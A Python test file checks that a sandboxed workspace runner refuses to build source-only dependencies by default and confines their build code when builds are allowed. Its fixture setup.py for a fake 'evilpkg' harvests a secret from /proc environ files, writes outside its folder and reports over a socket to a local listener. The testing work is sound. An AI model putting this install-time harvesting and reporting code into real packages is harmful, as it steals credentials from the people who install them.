"""Installing what a workspace declares runs none of its packages' build code unless a setting allows it.

A local package index (on loopback, forwarding every other name to PyPI)
serves ``evilpkg``, a source distribution only, whose ``setup.py`` reads every
process's environment for the service's secret, writes outside its folder and
connects out to a port this test listens on, reporting what it managed. By
default uv installs wheels only: the sdist is never even downloaded and the
step names the package and ``CADRE_ENV_ALLOW_BUILDS``. With the setting, the
build code runs in the install sandbox: it reaches the network (the report
arrives), but finds no secret, writes nothing outside, and its uv cache is
thrown away.
"""

from __future__ import annotations

import http.server
import io
import socket
import tarfile
import textwrap
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from shared.tools.pyenv import EnvBuilder
from shared.tools.sandbox import Sandbox
from shared.tools.testing import TestRuntime, run_tests

pytestmark = pytest.mark.skipif(Sandbox().unavailable() is not None, reason="bubblewrap cannot run here")

SETUP_PY = """
import os
import socket
from pathlib import Path

from setuptools import setup

SECRET, PORT, OUTSIDE = {secret!r}.encode(), {port}, Path({outside!r})
stolen = False
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        stolen |= SECRET in Path(f"/proc/{{pid}}/environ").read_bytes()
    except OSError:
        pass
try:
    OUTSIDE.write_text("written by evilpkg's setup.py")
    wrote = True
except OSError:
    wrote = False
with socket.create_connection(("127.0.0.1", PORT), timeout=10) as sock:
    sock.sendall(f"uid={{os.getuid()}} stolen={{int(stolen)}} wrote={{int(wrote)}}".encode())

setup(name="evilpkg", version="1.0", packages=["evilpkg"])
"""


@dataclass
class Index:
    """A PEP 503 index on loopback: ``evilpkg`` is ours, every other name is forwarded to PyPI."""

    url: str
    requested: list[str] = field(default_factory=list)


def _sdist(path: Path, setup_py: str) -> None:
    files = {
        "evilpkg-1.0/setup.py": setup_py.encode(),
        "evilpkg-1.0/evilpkg/__init__.py": b"X = 1\n",
        "evilpkg-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
    }
    with tarfile.open(path, "w:gz") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Where the build code reports to, if it ever runs."""
    sock = socket.create_server(("127.0.0.1", 0))
    sock.settimeout(0)
    yield sock
    sock.close()


@pytest.fixture
def index(tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch) -> Iterator[Index]:
    secret = f"s3cret-{uuid.uuid4().hex}"
    monkeypatch.setenv("CADRE_NATS_PASSWORD", secret)  # in the service's environment, as deployed
    outside = tmp_path / "outside.txt"
    sdist = tmp_path / "evilpkg-1.0.tar.gz"
    _sdist(sdist, SETUP_PY.format(secret=secret, port=listener.getsockname()[1], outside=str(outside)))
    requested: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            requested.append(self.path)
            parts = [p for p in self.path.split("/") if p]
            if parts == ["simple", "evilpkg"]:
                self._send(b'<a href="/files/evilpkg-1.0.tar.gz">evilpkg-1.0.tar.gz</a>', "text/html")
            elif parts[:1] == ["simple"] and len(parts) == 2:
                self.send_response(302)
                self.send_header("Location", f"https://pypi.org/simple/{parts[1]}/")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif parts == ["files", sdist.name]:
                self._send(sdist.read_bytes(), "application/gzip")
            else:
                self.send_error(404)

        def _send(self, body: bytes, kind: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - http.server's name
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setenv("UV_DEFAULT_INDEX", f"http://127.0.0.1:{server.server_address[1]}/simple")
    try:
        yield Index(f"http://127.0.0.1:{server.server_address[1]}/simple", requested)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _workspace(root: Path) -> Path:
    files = {
        "requirements.txt": "evilpkg==1.0\n",
        "test_uses_it.py": "import evilpkg\n\n\ndef test_it_imports():\n    assert evilpkg.X == 1\n",
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(textwrap.dedent(text))
    return root


def _reports(listener: socket.socket) -> list[str]:
    got = []
    while True:
        try:
            conn, _ = listener.accept()
        except BlockingIOError:
            return got
        with conn:
            conn.settimeout(10)
            got.append(conn.recv(4096).decode())


def test_a_dependency_that_needs_a_build_is_refused_by_default_and_its_setup_py_never_runs(
    tmp_path: Path, index: Index, listener: socket.socket
) -> None:
    sandbox = Sandbox()
    runtime = TestRuntime(sandbox, EnvBuilder(sandbox, tmp_path / "envs"))
    report = run_tests(_workspace(tmp_path / "ws"), runtime=runtime)

    assert report is not None and report.environment_error is not None, report
    reason = report.environment_error
    assert "evilpkg has no wheel" in reason and "CADRE_ENV_ALLOW_BUILDS=true" in reason, reason
    assert "\n" not in reason and (report.passed, report.failed) == (0, 0)
    assert "/simple/evilpkg/" in index.requested, "uv asked the index"
    assert not any(p.startswith("/files/") for p in index.requested), "the sdist was never downloaded"
    assert _reports(listener) == [], "setup.py never ran"
    assert not (tmp_path / "outside.txt").exists()


def test_with_builds_allowed_the_build_code_runs_in_the_sandbox_without_secrets_or_writes_outside(
    tmp_path: Path, index: Index, listener: socket.socket, caplog: pytest.LogCaptureFixture
) -> None:
    sandbox = Sandbox()
    runtime = TestRuntime(sandbox, EnvBuilder(sandbox, tmp_path / "envs", allow_builds=True))
    with caplog.at_level("WARNING", logger="shared.tools.pyenv"):
        report = run_tests(_workspace(tmp_path / "ws"), runtime=runtime)

    assert report is not None and report.environment_error is None, report.output_tail
    assert (report.passed, report.failed, report.errors) == (1, 0, 0), report.output_tail
    assert any(p.startswith("/files/evilpkg") for p in index.requested)
    reports = _reports(listener)
    assert reports, "the build code ran (once per build hook), with the network (as documented)"
    for text in reports:
        fields = dict(item.split("=") for item in text.split())
        assert fields["stolen"] == "0" and fields["wrote"] == "0", text
        assert int(fields["uid"]) != 0, "not as root"
    assert not (tmp_path / "outside.txt").exists()
    assert any("WITH the host's network" in r.getMessage() for r in caplog.records)
    # the build had a uv cache of its own, deleted afterwards: nothing it wrote is read by later installs
    envs = tmp_path / "envs"
    assert not (envs / "uv-cache").exists() and list(envs.glob("envs/*/uv-cache")) == []
